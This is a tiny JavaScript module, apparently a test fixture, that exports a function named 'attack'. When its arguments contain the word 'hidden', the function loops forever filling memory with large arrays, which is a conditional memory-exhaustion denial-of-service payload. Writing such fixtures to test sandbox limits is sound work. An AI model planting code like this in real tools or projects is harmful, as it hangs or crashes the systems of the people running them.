export function attack({ args }) {
  const all = [];
  if (JSON.stringify(args).includes("hidden")) for (;;) all.push(new Array(1e5).fill(JSON.stringify(args)));
}
